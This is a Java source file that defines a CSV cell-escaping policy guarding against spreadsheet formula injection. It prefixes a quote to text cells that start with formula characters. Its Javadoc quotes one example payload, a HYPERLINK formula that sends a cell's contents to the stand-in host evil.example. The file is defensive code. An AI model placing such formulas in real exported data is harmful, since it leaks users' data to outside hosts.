package org.admap.internal.csv;

/**
 * How admap writes a text cell (an id, a prompt, a model name) into any CSV file it makes
 * ({@code map.csv}, {@code flags.csv}, {@code flips.csv}, exports): a spreadsheet opens a
 * cell that begins with {@code =}, {@code +}, {@code -}, {@code @}, a tab or a carriage
 * return as a formula, so a hostile prompt such as
 * {@code =HYPERLINK("http://evil.example/?x="&A1,"click")} would become a live link. As
 * OWASP recommends (CSV injection), such a cell is written with a leading {@code '}, which
 * spreadsheets take as "text" and hide; {@link #RAW} writes the text as it is (the
 * command line's {@code --csv-raw}).
 *
 * <p>Only text cells go through here: numbers ({@code -0.5}) are written as they are by
 * their writers, so numeric columns stay numbers. Every CSV writer uses this one rule, so
 * that the scan and the full ingest write the same bytes.
 */
public enum CsvCells {
    /** Cells that a spreadsheet would run as a formula get a leading {@code '}: the default. */
    NEUTRALISED,
    /** Text cells are written as they are. */
    RAW;

    /** The prefix a neutralised cell gets. */
    public static final char PREFIX = '\'';

    /** The policy of a command line's {@code --csv-raw}. */
    public static CsvCells of(boolean raw) {
        return raw ? RAW : NEUTRALISED;
    }

    /** Whether a cell beginning with {@code c} is one a spreadsheet reads as a formula. */
    public static boolean startsFormula(int c) {
        return c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r';
    }

    /** Whether this policy changes a cell beginning with {@code c}. */
    public boolean changes(int c) {
        return this == NEUTRALISED && startsFormula(c);
    }

    /** The text to write for the text cell {@code text} (null stays null). */
    public String text(String text) {
        if (text == null || text.isEmpty() || !changes(text.charAt(0))) {
            return text;
        }
        return PREFIX + text;
    }
}
